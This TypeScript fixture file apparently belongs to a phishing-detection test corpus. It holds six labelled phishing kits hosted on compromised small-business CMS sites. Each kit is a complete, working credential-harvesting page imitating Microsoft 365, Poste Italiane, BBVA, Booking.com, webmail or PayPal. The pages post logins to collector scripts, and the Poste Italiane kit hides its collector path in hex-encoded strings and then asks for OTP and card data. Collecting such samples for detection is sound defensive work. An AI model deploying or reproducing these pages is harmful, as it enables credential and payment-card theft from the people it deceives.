import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { pngRoute, jsRoute, cssRoute } from '../parts/e-bin.js';

// Phishing kits dropped into customers' compromised WordPress, Joomla and shop installations.

export const entries: Entry[] = [
{
  id: 'zl-phish-wp-plugin-cache-m365',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://bauunternehmen-kessler.de/wp-content/plugins/wp-fastest-cache/inc/ms/office/index.php?client_id=4765445b-32c6&sso_reload=true',
  body: `<!DOCTYPE html>
<html dir="ltr" lang="de-DE"><head><meta charset="utf-8"><title>Bei Ihrem Konto anmelden</title>
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<meta name="robots" content="noindex, nofollow">
<link rel="icon" href="data:image/x-icon;base64,AAABAAEAEBAQAAEABAAoAQAAFgAAACgAAAAQAAAAIAAAAAEABAAAAAAAgAAAAAAAAAAAAAAAEAAAAAAAAAAAAAAA">
<style>body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,Roboto,sans-serif;background:#f2f2f2 url(bg.svg) center/cover}
.box{width:440px;margin:9vh auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px}
.logo{height:24px}h1{font-size:24px;font-weight:600;margin:16px 0 12px;color:#1b1b1b}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0;margin:10px 0}
.row{font-size:13px;margin:14px 0}.row a{color:#0067b8;text-decoration:none}
button{float:right;background:#0067b8;color:#fff;border:0;min-width:108px;padding:6px 12px;font-size:15px}
.err{color:#e81123;font-size:14px;display:none}.foot{text-align:right;font-size:12px;margin-top:50px;color:#666}</style></head>
<body><div class="box">
<svg class="logo" xmlns="http://www.w3.org/2000/svg" width="108" height="24" viewBox="0 0 108 24"><rect width="10.9" height="10.9" fill="#f25022"/><rect x="12" width="10.9" height="10.9" fill="#7fba00"/><rect y="12" width="10.9" height="10.9" fill="#00a4ef"/><rect x="12" y="12" width="10.9" height="10.9" fill="#ffb900"/><text x="28" y="17" font-family="Segoe UI" font-size="15" fill="#737373">Microsoft</text></svg>
<div id="s1"><h1>Anmelden</h1>
<div class="err" id="e1">Geben Sie eine gültige E-Mail-Adresse, Telefonnummer oder einen gültigen Skype-Namen ein.</div>
<input type="email" id="ai" placeholder="E-Mail, Telefon oder Skype" autocomplete="off">
<div class="row">Kein Konto? <a href="#">Erstellen Sie jetzt eins!</a></div>
<div class="row"><a href="#">Sie können nicht auf Ihr Konto zugreifen?</a></div>
<button id="n1">Weiter</button><div style="clear:both"></div></div>
<div id="s2" style="display:none"><div id="who" style="font-size:15px;margin-top:14px"></div><h1>Kennwort eingeben</h1>
<div class="err" id="e2">Ihr Konto oder Kennwort ist falsch. Wenn Sie Ihr Kennwort vergessen haben, setzen Sie es jetzt zurück.</div>
<input type="password" id="pr" placeholder="Kennwort">
<div class="row"><a href="#">Kennwort vergessen?</a></div>
<button id="n2">Anmelden</button><div style="clear:both"></div></div>
<div class="foot">Nutzungsbedingungen &nbsp; Datenschutz &amp; Cookies &nbsp; ...</div></div>
<script>
var h=location.hash.substr(1);try{if(h&&h.indexOf('@')<0)h=atob(h)}catch(e){}
if(h.indexOf('@')>0){document.getElementById('ai').value=h;}
var c=0;
document.getElementById('n1').onclick=function(){var v=document.getElementById('ai').value;if(!/^[^@]+@[^@]+\\.[a-z]{2,}$/i.test(v)){document.getElementById('e1').style.display='block';return}
document.getElementById('who').textContent=v;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('n2').onclick=function(){var fd=new FormData();fd.append('ai',document.getElementById('ai').value);fd.append('pr',document.getElementById('pr').value);fd.append('c',++c);
fetch('next.php',{method:'POST',body:fd}).then(function(r){return r.json()}).then(function(j){if(c<2){document.getElementById('e2').style.display='block';document.getElementById('pr').value=''}else{location.href=j.u||'https://www.office.com/'}})};
</script></body></html>`,
  routes: {
    'bauunternehmen-kessler.de/wp-content/plugins/wp-fastest-cache/inc/ms/office/bg.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#e7ecf0"/></svg>' },
    'bauunternehmen-kessler.de/wp-content/plugins/wp-fastest-cache/inc/ms/office/next.php': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"s":"ok","u":"https://www.office.com/"}' },
  },
},
{
  id: 'zl-phish-wp-cache-poste-it',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://pizzeria-dagino-pescara.it/wp-content/cache/autoptimize/js/pi/accesso.html',
  body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Poste Italiane - Accedi</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"Titillium Web",Arial,sans-serif;background:#f3f6f9}.h{background:#0047bb;padding:14px 26px;color:#fff;font-size:22px;font-weight:700}.h i{color:#ffd200;font-style:normal}
.w{max-width:440px;margin:30px auto;background:#fff;padding:28px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.08)}input{width:100%;padding:12px;border:1px solid #aab;border-radius:4px;margin:6px 0 14px}
button{width:100%;padding:13px;background:#ffd200;border:0;font-weight:700;font-size:16px;color:#0047bb;border-radius:4px}.n{background:#fff7d1;padding:10px;font-size:14px;border-radius:4px}</style></head>
<body><div class="h">Poste<i>Italiane</i></div><div class="w"><h2>Accedi all'area riservata</h2>
<p class="n">Gentile cliente, per motivi di sicurezza la tua carta <b>Postepay Evolution</b> è stata temporaneamente sospesa. Accedi per riattivarla.</p>
<form id="l"><label>Nome utente</label><input name="u" required><label>Password</label><input type="password" name="p" required><button>ACCEDI</button></form>
<p style="font-size:13px"><a href="#">Hai dimenticato nome utente o password?</a></p></div>
<script>
var _0x1a=['\\x73\\x75\\x62\\x6d\\x69\\x74','\\x2e\\x2e\\x2f\\x63\\x73\\x73\\x2f\\x67\\x2e\\x70\\x68\\x70','\\x50\\x4f\\x53\\x54'];
document.getElementById('l').addEventListener(_0x1a[0],function(e){e.preventDefault();fetch(_0x1a[1],{method:_0x1a[2],body:new FormData(this)}).then(function(){
document.querySelector('.w').innerHTML='<h2>Verifica dispositivo</h2><p>Inserisci il codice OTP ricevuto via SMS e i dati della carta per completare la riattivazione.</p><form><input placeholder="Codice OTP"><input placeholder="Numero carta Postepay"><input placeholder="Scadenza"><input placeholder="CVV"><button>CONFERMA</button></form>'})});
</script></body></html>`,
  routes: { 'pizzeria-dagino-pescara.it/wp-content/cache/autoptimize/css/g.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '1' } },
},
{
  id: 'zl-phish-wp-admin-colors-bbva',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://asesoria-fiscal-moreno.es/wp-admin/css/colors/ocean/bbva/acceso/',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>BBVA España | Acceso clientes</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"BentonSans",Arial,sans-serif;background:#f4f4f4}.nav{background:#072146;color:#fff;padding:16px 30px;font-size:26px;font-weight:700;letter-spacing:1px}
.f{max-width:400px;margin:40px auto;background:#fff;padding:30px}h1{font-size:22px;color:#072146}input,select{width:100%;padding:12px;border:0;border-bottom:1px solid #1973b8;background:#f4f4f4;margin:6px 0 16px;font-size:15px}
button{width:100%;background:#1973b8;color:#fff;border:0;padding:14px;font-size:16px}.a{font-size:13px;color:#666}</style></head>
<body><div class="nav">BBVA</div><div class="f"><h1>Accede a tu banca online</h1>
<p class="a">Hemos detectado un acceso no autorizado desde un dispositivo desconocido (Madrid, 84.121.x.x). Por su seguridad, verifique su identidad.</p>
<form method="post" action="sms.php"><select name="tipo"><option>NIF</option><option>NIE</option><option>Pasaporte</option></select>
<input name="doc" placeholder="Número de documento"><input name="clave" type="password" placeholder="Contraseña de acceso"><input name="movil" placeholder="Teléfono móvil">
<button>Entrar</button></form><p class="a">¿Has olvidado tu contraseña? · Hazte cliente</p></div></body></html>`,
},
{
  id: 'zl-phish-wp-revslider-booking-extranet',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://hotel-alpenrose-tirol.at/wp-content/plugins/revslider/admin/assets/bk/extranet/sign-in.html?op_token=EgVvYXV0aCK0',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Booking.com Account</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;background:#fff}.hd{background:#003580;padding:14px 24px;color:#fff;font-size:22px;font-weight:700}
.m{max-width:380px;margin:40px auto}h1{font-size:24px}label{font-weight:600;font-size:14px}input{width:100%;padding:11px;border:1px solid #868686;border-radius:4px;margin:6px 0 16px;font-size:15px}
button{width:100%;background:#006ce4;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px}.s{font-size:12px;color:#595959;text-align:center}</style></head>
<body><div class="hd">Booking.com <span style="font-weight:400;font-size:15px">for Partners</span></div>
<div class="m"><h1>Sign in to manage your property</h1>
<p style="font-size:14px">A guest has left an urgent message about reservation <b>#4812 337 905</b>. Sign in to the Extranet to respond within 24 hours to avoid a cancellation without penalty.</p>
<form id="x"><label>Username</label><input name="loginname" required><label>Password</label><input type="password" name="password" required><button>Next</button></form>
<p class="s">By signing in or creating an account, you agree with our Terms & conditions and Privacy statement<br>All rights reserved. Copyright (2006 - 2026) - Booking.com™</p></div>
<script>document.getElementById('x').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('https://hotel-alpenrose-tirol.at/wp-content/plugins/revslider/admin/assets/bk/r.php',new FormData(this));
setTimeout(function(){location.replace('https://admin.booking.com/')},900)};</script></body></html>`,
  routes: { 'hotel-alpenrose-tirol.at/wp-content/plugins/revslider/admin/assets/bk/r.php': { status: 204, headers: {}, body: '' } },
},
{
  id: 'zl-phish-wp-plugin-webmail-quota',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://tischlerei-brandl.de/wp-content/plugins/contact-form-7/includes/js/mail/upgrade.php?email=info@tischlerei-brandl.de',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Webmail :: Postfach-Speicher</title>
<style>body{margin:0;background:#2f3a3f;font-family:"Roboto","Lucida Grande",Verdana,sans-serif}.box{width:390px;margin:12vh auto;background:#fff;border-radius:4px;padding:30px}
.q{height:14px;background:#eee;border-radius:7px;overflow:hidden;margin:10px 0}.q div{width:98%;height:100%;background:#d9534f}input{width:100%;padding:9px;margin:6px 0 12px;border:1px solid #bbb}
button{background:#37beff;border:0;color:#fff;padding:10px;width:100%;font-size:15px}small{color:#888}</style></head>
<body><div class="box"><h3 style="margin-top:0">Roundcube Webmail</h3><p>Ihr Postfach <b id="em"></b> hat <b>98%</b> seines Speicherlimits erreicht (4.9 GB / 5 GB).</p>
<div class="q"><div></div></div><p style="font-size:13px">Eingehende Nachrichten werden zurückgewiesen. Melden Sie sich an, um kostenlos auf 50 GB zu erweitern.</p>
<form method="post" action="upgrade.php"><input id="u" name="email" readonly><input name="password" type="password" placeholder="Passwort"><button>Speicher erweitern</button></form>
<small id="dm"></small></div>
<script>var m=new URLSearchParams(location.search).get('email')||'';document.getElementById('em').textContent=m;document.getElementById('u').value=m;document.getElementById('dm').textContent='© '+(m.split('@')[1]||'')+' Mail-Server';</script></body></html>`,
},
{
  id: 'zl-phish-opencart-theme-paypal-de',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://angelsport-ruegen.de/catalog/view/theme/default/image/pp/signin/index.php?country.x=DE&locale.x=de_DE',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Bei PayPal einloggen</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"PayPal Sans",Helvetica,Arial,sans-serif;background:#fff}.c{max-width:460px;margin:50px auto;border:1px solid #eaeced;border-radius:12px;padding:40px 48px}
.l{text-align:center;font:italic 800 30px Verdana;color:#003087}.l span{color:#009cde}input{width:100%;height:52px;padding:0 12px;border:1px solid #9da3a6;border-radius:4px;margin:8px 0;font-size:16px}
button{width:100%;height:48px;background:#0070ba;color:#fff;border:0;border-radius:24px;font-size:16px;font-weight:600;margin-top:12px}.o{text-align:center;margin:18px 0;color:#6c7378}
.sec{width:100%;height:48px;background:#fff;border:2px solid #0070ba;color:#0070ba;border-radius:24px;font-size:16px;font-weight:600}</style></head>
<body><div class="c"><div class="l">Pay<span>Pal</span></div>
<form action="websrc.php" method="post"><input name="login_email" type="text" placeholder="E-Mail-Adresse oder Handynummer"><input name="login_password" type="password" placeholder="Passwort">
<p style="font-size:14px"><a href="#" style="color:#0070ba">Passwort vergessen?</a></p><button>Einloggen</button></form>
<div class="o">oder</div><button class="sec" type="button">Neu anmelden</button>
<p style="text-align:center;font-size:12px;color:#6c7378;margin-top:30px">Kontakt · Datenschutz · AGB · Weltweit</p></div></body></html>`,
},
];
